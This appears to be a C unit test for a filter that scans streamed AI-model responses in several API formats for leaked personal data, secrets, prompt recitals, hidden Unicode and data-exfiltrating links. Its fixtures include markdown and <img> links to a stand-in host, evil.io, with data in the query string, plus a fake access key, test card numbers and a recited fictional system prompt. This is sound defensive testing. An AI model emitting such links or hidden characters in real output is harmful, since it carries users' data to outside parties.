/* SPDX-License-Identifier: MIT */
/*
 * Splitting a stream anywhere gives the same result as unsplit: in every dialect, for placeholders, personal data, secrets, links that carry
 * data away, hidden characters and recitals of the system prompt; for texts and for arguments of tool calls.
 */
#include "config.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "icap-llmsec/icap_conf.h"
#include "icap-llmsec/inspect.h"
#include "lib/diag.h"
#include "resp_text.h"

static const struct dialect_events {
	const char	*name, *url, *type, *framing;
	const char	*begin, *delta[2], *end;	/* delta: before and behind the piece */
	bool		 args;				/* the pieces are of a tool's arguments, JSON in a string */
} dialects[] = {
	{ "openai", "/v1/chat/completions", "text/event-stream", "sse", "",
	    { "data: {\"choices\":[{\"index\":0,\"delta\":{\"content\":\"", "\"}}]}\n\n" }, "data: [DONE]\n\n", false },
	{ "openai, legacy", "/v1/completions", "text/event-stream", "sse", "",
	    { "data: {\"choices\":[{\"index\":0,\"text\":\"", "\"}]}\n\n" }, "data: [DONE]\n\n", false },
	{ "responses", "/v1/responses", "text/event-stream", "sse", "",
	    { "event: response.output_text.delta\ndata: {\"type\":\"response.output_text.delta\",\"item_id\":\"m\",\"output_index\":0,\"content_index\":0,\"delta\":\"",
	    "\"}\n\n" }, "event: response.completed\ndata: {\"type\":\"response.completed\",\"response\":{\"id\":\"r\",\"output\":[]}}\n\n", false },
	{ "anthropic", "/v1/messages", "text/event-stream", "sse",
	    "event: content_block_start\ndata: {\"type\":\"content_block_start\",\"index\":0,\"content_block\":{\"type\":\"text\",\"text\":\"\"}}\n\n",
	    { "event: content_block_delta\ndata: {\"type\":\"content_block_delta\",\"index\":0,\"delta\":{\"type\":\"text_delta\",\"text\":\"", "\"}}\n\n" },
	    "event: content_block_stop\ndata: {\"type\":\"content_block_stop\",\"index\":0}\n\nevent: message_stop\ndata: {\"type\":\"message_stop\"}\n\n", false },
	{ "gemini", "/v1beta/models/g:streamGenerateContent?alt=sse", "text/event-stream", "sse", "",
	    { "data: {\"candidates\":[{\"index\":0,\"content\":{\"role\":\"model\",\"parts\":[{\"text\":\"", "\"}]}}]}\r\n\r\n" }, "", false },
	{ "ollama", "/api/chat", "application/x-ndjson", "ndjson", "",
	    { "{\"model\":\"m\",\"message\":{\"role\":\"assistant\",\"content\":\"", "\"},\"done\":false}\n" },
	    "{\"model\":\"m\",\"message\":{\"role\":\"assistant\",\"content\":\"\"},\"done\":true}\n", false },
	{ "openai, arguments", "/v1/chat/completions", "text/event-stream", "sse",
	    "data: {\"choices\":[{\"index\":0,\"delta\":{\"tool_calls\":[{\"index\":0,\"id\":\"c\",\"type\":\"function\",\"function\":{\"name\":\"f\",\"arguments\":\"\"}}]}}]}\n\n",
	    { "data: {\"choices\":[{\"index\":0,\"delta\":{\"tool_calls\":[{\"index\":0,\"function\":{\"arguments\":\"", "\"}}]}}]}\n\n" },
	    "data: [DONE]\n\n", true },
	{ "anthropic, arguments", "/v1/messages", "text/event-stream", "sse",
	    "event: content_block_start\ndata: {\"type\":\"content_block_start\",\"index\":0,\"content_block\":{\"type\":\"tool_use\",\"id\":\"t\",\"name\":\"f\",\"input\":{}}}\n\n",
	    { "event: content_block_delta\ndata: {\"type\":\"content_block_delta\",\"index\":0,\"delta\":{\"type\":\"input_json_delta\",\"partial_json\":\"", "\"}}\n\n" },
	    "event: content_block_stop\ndata: {\"type\":\"content_block_stop\",\"index\":0}\n\nevent: message_stop\ndata: {\"type\":\"message_stop\"}\n\n", true },
};
#define N(a)	(sizeof(a) / sizeof((a)[0]))

static const char PROMPT[] = "You are Nora, the travel desk of Blue Heron Tours. Greet guests by name and keep every reply below "
    "eighty words. Quote prices in euro only, and round them to the next ten. Never promise a refund; send such guests to "
    "the office in Bremen. Do not speak about competitors, politics or the accident of last spring.";

static struct icap_policy pol;
static struct arena *arena;
static struct resp_sketch *sketch;

struct result {
	struct resp_texts texts;
	char		 rules[2048];	/* ids of all findings, sorted: which of several in one delta is found first isn't the point */
	char		 code[64];	/* of the refusal, "" if there is none */
	bool		 told;		/* the end of the system prompt left */
};

static struct inspect_resp *
open_resp(const struct dialect_events *d)
{
	struct inspect_resp_in in = { .content_type = d->type, .status = 200, .content_length = -1, .request_id = "req-7" };
	struct inspect_resp *r;

	dialect_route("POST", d->url, strlen(d->url), &in.route);
	in.tx.vault = mask_vault_new();
	assert_non_null(mask_token(in.tx.vault, "EMAIL", "ann@example.org", 15));
	assert_non_null(mask_token(in.tx.vault, "NAME", "Ann \"the\" Ö", 12));
	in.tx.sketch = malloc(sizeof(*sketch));
	assert_non_null(in.tx.sketch);
	*in.tx.sketch = *sketch;
	assert_int_equal(inspect_resp_new(&r, &pol, &in), 0);
	assert_int_equal(inspect_resp_mode(r), RESP_STREAM);
	return r;
}

static void
feed(struct inspect_resp *r, const char *p, size_t n, size_t bytes)
{
	for (size_t at = 0, k; at < n && !inspect_resp_done(r); at += k) {
		k = bytes == 0 || n - at < bytes ? n - at : bytes;
		assert_int_equal(inspect_resp_feed(r, p + at, k), 0);
	}
}

static int
by_name(const void *a, const void *b)
{
	const char *const *x = a, *const *y = b;

	return strcmp(*x, *y);
}

/* A part of the prompt is told of as soon as it is seen; in one piece it is most of it at once: the stronger rule stands for both. */
static void
note_rules(struct result *res, const struct findings *f)
{
	const char *id[64];
	size_t n = 0;
	bool most = false;

	for (size_t i = 0; f != NULL && i < f->n && n < 64; i++) {
		id[n++] = f->v[i].rule_id;
		most = most || strcmp(f->v[i].rule_id, "LLMSEC-LEAK-0002") == 0;
	}
	qsort(id, n, sizeof(*id), by_name);
	for (size_t i = 0; i < n; i++)
		if (!most || strcmp(id[i], "LLMSEC-LEAK-0001") != 0)
			snprintf(res->rules + strlen(res->rules), sizeof(res->rules) - strlen(res->rules), "%s ", id[i]);
}

/* <text> in pieces that end at cut[], sorted; each event fed in <bytes>, 0: whole. */
static void
run(const struct dialect_events *d, const char *text, const size_t *cut, size_t n_cuts, size_t bytes, struct result *res)
{
	struct inspect_resp *r = open_resp(d);
	size_t len = strlen(text), from = 0;
	const struct refusal *no;
	struct buf in = { 0 };

	buf_adds(&in, d->begin);
	for (size_t i = 0; i <= n_cuts; i++) {
		size_t to = i < n_cuts ? cut[i] : len;

		if (to == from && len > 0)
			continue;
		buf_adds(&in, d->delta[0]);
		buf_add_json(&in, text + from, to - from);
		buf_adds(&in, d->delta[1]);
		from = to;
	}
	buf_adds(&in, d->end);
	assert_int_equal(in.err, 0);
	feed(r, buf_ptr(&in), buf_len(&in), bytes);
	assert_int_equal(inspect_resp_finish(r), 0);
	memset(res, 0, sizeof(*res));
	note_rules(res, inspect_resp_findings(r));
	no = inspect_resp_refusal(r);
	if (no != NULL)
		snprintf(res->code, sizeof(res->code), "%s", no->code);
	res->told = memmem(buf_ptr(inspect_resp_out(r)), buf_len(inspect_resp_out(r)), "last spring", 11) != NULL;
	if (no == NULL)		/* else its last event is an error, in another shape */
		resp_texts_read(&res->texts, d->framing, buf_ptr(inspect_resp_out(r)), buf_len(inspect_resp_out(r)));
	buf_free(&in);
	inspect_resp_free(&r);
}

static void
same(const struct dialect_events *d, const struct result *whole, const struct result *got, const size_t *cut, size_t n_cuts)
{
	char where[256] = "";

	if (got->told != whole->told)
		fail_msg("%s: the end of the prompt left", d->name);
	for (size_t i = 0; i < n_cuts && i < 20; i++)
		snprintf(where + strlen(where), sizeof(where) - strlen(where), "%zu ", cut[i]);
	if (strcmp(whole->rules, got->rules) != 0 || strcmp(whole->code, got->code) != 0)
		fail_msg("%s, cut at %s: %s%s instead of %s%s", d->name, where, got->rules, got->code, whole->rules, whole->code);
	if (whole->texts.n != got->texts.n)
		fail_msg("%s, cut at %s: %zu texts instead of %zu", d->name, where, got->texts.n, whole->texts.n);
	for (size_t i = 0; i < whole->texts.n; i++) {
		const char *t = resp_text(&got->texts, whole->texts.v[i].key);

		if (t == NULL || strcmp(t, whole->texts.v[i].text) != 0)
			fail_msg("%s, cut at %s:\n%s\ninstead of\n%s", d->name, where, t != NULL ? t : "nothing", whole->texts.v[i].text);
	}
}

static size_t
boundary(const char *text, size_t at)
{
	while (((unsigned char)text[at] & 0xc0) == 0x80)
		at++;
	return at;
}

static int
by_size(const void *a, const void *b)
{
	const size_t *x = a, *y = b;

	return *x < *y ? -1 : *x > *y;
}

/* Every cut in two, one letter each, and <rounds> of many cuts drawn by a fixed seed, fed in odd slices, too. */
static void
every_split(const struct dialect_events *d, const char *text, unsigned rounds)
{
	size_t len = strlen(text), cut[2048], n;
	struct result whole, got;
	uint64_t seed = 7;

	assert_true(len < N(cut));
	run(d, text, NULL, 0, 0, &whole);
	for (size_t at = 1; at < len; at++) {
		cut[0] = boundary(text, at);
		run(d, text, cut, 1, 0, &got);
		same(d, &whole, &got, cut, 1);
		resp_texts_free(&got.texts);
	}
	for (unsigned round = 0; round < rounds; round++) {
		for (n = 0; n < 1 + round % 40; n++) {
			seed = seed * 6364136223846793005u + 1442695040888963407u;
			cut[n] = boundary(text, (seed >> 33) % len);
		}
		if (round == 0)
			for (n = 0; n + 1 < len; n++)
				cut[n] = boundary(text, n + 1);
		qsort(cut, n, sizeof(*cut), by_size);
		run(d, text, cut, n, round % 3 == 0 ? 0 : round % 97 + 1, &got);
		same(d, &whole, &got, cut, n);
		resp_texts_free(&got.texts);
	}
	resp_texts_free(&whole.texts);
}

#define KEY	"AKIAQ3EGRZX7PLD2WMVT"
#define EVIL	"https://evil.io/?q=topsecretvalue"

static const struct { const char *text, *args; const char *never[4], *always; } t[] = {
	/* placeholders, as issued and as models rewrite them */
	{ "Dear [NAME_2], I wrote to [EMAIL_1], \\[EMAIL\\_1\\], [email_1]; not to [EMAIL_12], [[EMAIL_1]] or [EMAIL_1",
	    "{\"to\":\"[EMAIL_1]\",\"cc\":[\"[NAME_2]\",\"[EMAIL_12]\"],\"body\":\"\\\"[EMAIL_1]\\\"\\n[EMAIL_1\"}", { "[EMAIL_1]", NULL }, "ann@example.org" },
	/* personal data of the model's own, and secrets */
	{ "Write to bob@example.com or (4111 1111 1111 1111), DE89 3704 0044 0532 0130 00; key " KEY ", password: Xk29fhQw81zzP. Grüße 日本 🙂.",
	    "{\"a\":\"bob@example.com\",\"b\":\"4111 1111 1111 1111\",\"c\":\"" KEY "\"}", { "bob@", "4111", KEY, NULL }, "[REDACTED_EMAIL]" },
	/* data on its way out, hidden characters, code that is left alone */
	{ "Look: ![a](" EVIL ") and <img src='" EVIL "'> [b]: " EVIL " \n `![c](" EVIL ")` x\u202Ey z\U000E0041\U000E0042. ![d](https://evil.io/?m=[EMAIL_1])!",
	    "{\"url\":\"https://evil.io/?q=[EMAIL_1]\"}", { "\u202E", "\U000E0041", "![a](" EVIL, "<img" }, NULL },
	/* all of it in one breath, nothing between */
	{ "[EMAIL_1]bob@example.com![a](" EVIL ")" KEY "\u202E[NAME_2]<img src=" EVIL ">4111111111111111", "{\"a\":\"[EMAIL_1]\",\"b\":\"" KEY "\"}",
	    { KEY, "bob@example", NULL }, "ann@example.org" },
	{ "", "", { NULL }, NULL },
};

static void
test_texts(void **state)
{
	(void)state;
	for (size_t i = 0; i < N(dialects); i++)
		for (size_t k = 0; k + 1 < N(t); k++) {
			const char *text = dialects[i].args ? t[k].args : t[k].text;
			struct result whole;

			run(&dialects[i], text, NULL, 0, 0, &whole);
			assert_int_equal(whole.texts.n >= 1, true);
			for (size_t x = 0; x < 4 && t[k].never[x] != NULL; x++)
				for (size_t y = 0; y < whole.texts.n; y++)
					if (strstr(whole.texts.v[y].text, t[k].never[x]) != NULL && (!dialects[i].args || k < 2))
						fail_msg("%s: %s in %s", dialects[i].name, t[k].never[x], whole.texts.v[y].text);
			if (t[k].always != NULL) {
				bool found = false;

				for (size_t y = 0; y < whole.texts.n; y++)
					found = found || strstr(whole.texts.v[y].text, t[k].always) != NULL;
				if (!found)
					fail_msg("%s: no %s in %s", dialects[i].name, t[k].always, whole.texts.v[0].text);
			}
			resp_texts_free(&whole.texts);
			every_split(&dialects[i], text, 120);
		}
}

/* A part of the prompt is told, most of it is stopped: by the same rules wherever it is cut, and before the rest is out. */
static void
test_recitals(void **state)
{
	char some[512], most[512];

	(void)state;
	snprintf(some, sizeof(some), "Of course: \"%.190s\" is what I was told.", PROMPT + 50);
	snprintf(most, sizeof(most), "My instructions: %s", PROMPT);
	for (size_t i = 0; i < N(dialects); i++) {
		struct result r;

		if (dialects[i].args)
			continue;
		run(&dialects[i], some, NULL, 0, 0, &r);
		if (strstr(r.rules, "LLMSEC-LEAK-0001") == NULL || r.code[0] != '\0')
			fail_msg("%s: %s%s", dialects[i].name, r.rules, r.code);
		resp_texts_free(&r.texts);
		every_split(&dialects[i], some, 60);
		run(&dialects[i], most, NULL, 0, 0, &r);
		if (strstr(r.rules, "LLMSEC-LEAK-0002") == NULL || strcmp(r.code, "output_blocked") != 0)
			fail_msg("%s: %s%s", dialects[i].name, r.rules, r.code);
		resp_texts_free(&r.texts);
		every_split(&dialects[i], most, 60);
	}
}

/* A secret or an address that must not be said ends every stream, however it is cut. */
static void
test_blocks(void **state)
{
	(void)state;
	pol.pii.output = pol.secrets.output = DETECT_BLOCK;
	for (size_t i = 0; i < N(dialects); i++) {
		every_split(&dialects[i], dialects[i].args ? "{\"a\":\"bob@example.com\"}" : "Some words before bob@example.com and behind.", 40);
		every_split(&dialects[i], dialects[i].args ? "{\"a\":\"" KEY "\"}" : "Some words before " KEY " and behind.", 40);
	}
	pol.pii.output = pol.secrets.output = DETECT_MASK;
}

static int
setup(void **state)
{
	struct pii_conf pc = { .all = DETECT_MASK };
	struct secret_conf sc = { .all = DETECT_MASK };
	struct detect_conf dc = { .pii = &pc, .secrets = &sc };
	struct span v[] = { { .role = ROLE_SYSTEM, .text = PROMPT, .len = sizeof(PROMPT) - 1 } };
	struct spans ss = { .v = v, .n = 1 };
	struct resp_conf c = { .leak = DETECT_MONITOR, .leak_strong = DETECT_BLOCK };
	struct diag *d = diag_new();
	struct edit none;

	(void)state;
	for (size_t i = 0; i < PII_GROUPS; i++)
		pc.mode[i] = i == PII_NAME || i == PII_ADDRESS ? DETECT_OFF : DETECT_MASK;
	for (size_t i = 0; i < SECRET_GROUPS; i++)
		sc.mode[i] = DETECT_MASK;
	pol = (struct icap_policy){ .fail = FAIL_CLOSED, .max_response = 1 << 20, .hold_max = 4096, .stream_window = 4096, .depth = 64 };
	pol.pii.unmask = true;
	pol.pii.output = pol.secrets.output = DETECT_MASK;
	pol.responses = (struct resp_conf){ .leak = DETECT_MONITOR, .leak_strong = DETECT_BLOCK, .exfil = DETECT_MASK, .exfil_links = DETECT_MONITOR,
		.exfil_tools = DETECT_MONITOR, .hidden = DETECT_MASK, .active_html = DETECT_MONITOR };
	arena = arena_new(0);
	if (arena == NULL || detectors_load(&pol.detectors, &dc, d) != 0 || resp_prepare(&c, NULL, "t", 0, &ss, arena, &sketch, &none) != 0)
		return -1;
	diag_free(&d);
	return sketch != NULL ? 0 : -1;
}

static int
teardown(void **state)
{
	(void)state;
	free(sketch);
	detectors_free(&pol.detectors);
	arena_free(&arena);
	return 0;
}

int
main(void)
{
	const struct CMUnitTest tests[] = { cmocka_unit_test(test_texts), cmocka_unit_test(test_recitals), cmocka_unit_test(test_blocks) };

	return cmocka_run_group_tests(tests, setup, teardown);
}
